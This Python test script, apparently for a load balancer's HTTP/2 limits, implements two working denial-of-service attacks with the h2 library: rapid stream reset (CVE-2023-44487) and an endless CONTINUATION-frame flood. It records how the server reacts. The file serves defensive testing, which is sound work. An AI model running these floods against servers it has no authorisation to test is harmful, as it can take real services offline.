"""HTTP/2 clients that misbehave on purpose, on the `h2` library (PyPI), for the balancer's
tests of its HTTP/2 bounds. Each connects by prior knowledge to HOST:PORT and prints what the
server did: `goaway CODE` (the GOAWAY's error code, e.g. 11 ENHANCE_YOUR_CALM), or `closed` (the
connection ended without one), or `open` (neither, after 3 s).

    h2_abuse.py rapid-reset HOST PORT N
        opens N streams, resetting each right after its HEADERS (CVE-2023-44487)
    h2_abuse.py continuation-flood HOST PORT BYTES
        one request whose header block never ends: HEADERS without END_HEADERS, then
        CONTINUATION frames of 16 KiB until BYTES were sent
"""
import socket
import struct
import sys

import h2.config
import h2.connection
import h2.events

REQUEST = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "abuse")]


def outcome(sock, conn):
    """Reads until the server sends GOAWAY or closes; prints what happened."""
    sock.settimeout(3)
    try:
        while True:
            data = sock.recv(65535)
            if not data:
                print("closed", flush=True)
                return
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    print(f"goaway {int(event.error_code)}", flush=True)
                    return
            sock.sendall(conn.data_to_send())
    except socket.timeout:
        print("open", flush=True)
    except (ConnectionResetError, BrokenPipeError):
        print("closed", flush=True)


def connect(host, port):
    sock = socket.create_connection((host, int(port)), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def rapid_reset(host, port, n):
    sock, conn = connect(host, port)
    try:
        for _ in range(int(n)):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, REQUEST, end_stream=True)
            conn.reset_stream(stream)
            sock.sendall(conn.data_to_send())
    except (ConnectionResetError, BrokenPipeError):
        print("closed", flush=True)
        return
    outcome(sock, conn)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, lengths on 7-bit prefixes."""
    def length(n):
        if n < 127:
            return bytes([n])
        out, n = bytearray([127]), n - 127
        while n >= 128:
            out.append(n % 128 + 128)
            n //= 128
        out.append(n)
        return bytes(out)
    return b"\x00" + length(len(name)) + name + length(len(value)) + value


def continuation_flood(host, port, total):
    sock, conn = connect(host, port)
    headers = b"".join(literal(k.encode(), v.encode()) for k, v in REQUEST)
    sent = 0
    try:
        sock.sendall(frame(0x1, 0x0, 1, headers))  # HEADERS, no END_HEADERS
        chunk = literal(b"x-flood", b"a" * 16000)
        while sent < int(total):
            sock.sendall(frame(0x9, 0x0, 1, chunk))  # CONTINUATION, no END_HEADERS
            sent += len(chunk)
    except (ConnectionResetError, BrokenPipeError):
        print("closed", flush=True)
        return
    outcome(sock, conn)


def main():
    mode, host, port, arg = sys.argv[1:5]
    {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood}[mode](host, port, arg)


if __name__ == "__main__":
    main()
